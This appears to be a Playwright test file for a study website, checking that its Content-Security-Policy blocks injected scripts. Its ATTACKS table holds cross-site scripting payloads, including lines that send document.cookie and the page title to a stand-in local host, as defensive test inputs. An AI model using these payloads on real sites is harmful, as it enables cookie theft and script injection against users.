"""What the pages' policy stops in a real browser, and what it lets through; that every other test runs under it."""

from __future__ import annotations

import http.server
import re
import threading
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from .soon import becomes, holds
from .test_reading import PATIENCE, SIZES

# one page of each kind, and of each depth
PLACES = ["", "mechanisms/consultation/", "quiz/consultation/", "papers/mock-exam-1/", "map/", "glossary/", "paths/", "desk/", "trainer/"]
PLACES += [
    "desk/record/",
    "desk/review/",
    "desk/assigned/",
    "trainer/bank/",
    "trainer/assemble/",
    "trainer/classes/",
    "trainer/assign/",
    "trainer/results/",
    "trainer/classroom/",
    "trainer/cards/",
    "trainer/sheets/",
]
PLACES += ["cases/", "guide/offline/", "offline.html", "there/is/no/such/page/"]


@pytest.fixture(params=SIZES)
def context(request: pytest.FixtureRequest, browser: Browser) -> Iterator[BrowserContext]:
    made = browser.new_context(viewport=SIZES[request.param], reduced_motion="reduce", service_workers="block")
    yield made
    made.close()


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_no_page_asks_for_what_is_forbidden(browser: Browser, root: str, scheme: str) -> None:
    """The collector of every browser test looks; here every kind of page is opened once."""
    context = browser.new_context(color_scheme="dark" if scheme == "dark" else "light", service_workers="block")
    page = context.new_page()
    wrong: list[str] = []
    page.on("pageerror", lambda error: wrong.append(str(error)))
    for place in PLACES:
        page.goto(root + place)
        expect(page.locator(".md-content h1")).to_be_visible()
        becomes(lambda: page.locator("meta[http-equiv='Content-Security-Policy']").count(), 1)
        page.evaluate("scrollTo(0, document.body.scrollHeight)")
    assert wrong == []
    context.close()


ATTACKS = {
    "inline script": "let it = document.createElement('script'); it.textContent = 'window.harmed = 1'; document.body.append(it)",
    "handler": "document.body.insertAdjacentHTML('beforeend', '<img src=\"data:,\" onerror=\"window.harmed = 1\">')",
    "link": "let it = document.createElement('a'); it.href = 'javascript:void(window.harmed = 1)'; document.body.append(it); it.click()",
    "frame": "let it = document.createElement('iframe'); it.srcdoc = '<script>parent.harmed = 1</' + 'script>'; document.body.append(it)",
    "script of another host": "let it = document.createElement('script'); it.src = '{other}a.js'; document.body.append(it)",
    "words sent away": "fetch('{other}?' + document.cookie).catch(() => 0)",
    "picture that tells": "new Image().src = '{other}?' + document.title",
    "base": "let it = document.createElement('base'); it.href = '{other}'; document.head.append(it)",
    "form": "let it = document.createElement('form'); it.action = '{other}'; document.body.append(it); it.submit()",
    "style": "document.body.insertAdjacentHTML('beforeend', '<p style=\"color: red\">1</p>')",
}


@pytest.fixture(scope="module")
def other() -> Iterator[tuple[str, list[str]]]:
    """Another host, and what it was asked for."""
    asked: list[str] = []

    class Listening(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, format: str, *args: object) -> None:
            """Says nothing."""

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Listening)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://localhost:{server.server_address[1]}/", asked
    server.shutdown()
    server.server_close()


@pytest.mark.parametrize("context", ["phone"], indirect=True)
@pytest.mark.parametrize("attack", ATTACKS)
def test_what_got_into_a_page_can_do_nothing(
    context: BrowserContext, root: str, attack: str, refusals: list[str], other: tuple[str, list[str]]
) -> None:
    page = context.new_page()
    address, asked = other
    asked.clear()
    page.goto(f"{root}quiz/consultation/")
    # later, as a script of the page would do it, and not within the test's own
    act = ATTACKS[attack].replace("{other}", address)
    page.evaluate(f"new Promise(done => setTimeout(() => {{ {act}; setTimeout(done, 300) }}))")
    holds(lambda: page.evaluate("window.harmed") is None)
    assert asked == []
    assert page.url == f"{root}quiz/consultation/"
    # heard by the collector as well: it would have failed any other test
    assert refusals
    refusals.clear()


def test_the_other_host_would_hear(page: Page, other: tuple[str, list[str]]) -> None:
    address, asked = other
    asked.clear()
    page.goto(f"{address}?heard")
    assert "/?heard" in asked


def test_search_downloads_and_styles_by_script_work(context: BrowserContext, root: str) -> None:
    page = context.new_page()
    page.goto(f"{root}?q=居民会议")
    expect(page.locator(".md-search-result__item").first).to_be_visible(timeout=PATIENCE)
    page.goto(f"{root}quiz/consultation/")
    question = page.locator("quiz-question[data-type='single_choice']").first
    question.locator("input").first.check()
    question.get_by_role("button", name="确认答案").click()
    expect(question.get_by_role("status")).to_have_text(re.compile("答[对错]了"))
    page.goto(f"{root}desk/record/")
    with page.expect_download() as saved:
        page.get_by_role("button", name="下载").first.click()
    assert "consultation" in saved.value.path().read_text(encoding="utf-8")


def test_without_scripts_a_search_is_still_sent(browser: Browser, root: str) -> None:
    context = browser.new_context(java_script_enabled=False, service_workers="block")
    page: Page = context.new_page()
    page.goto(root)
    page.get_by_role("searchbox").first.fill("协商")
    page.locator("form.ask button").first.click()
    page.wait_for_url(re.compile(r"\?q="))
    context.close()
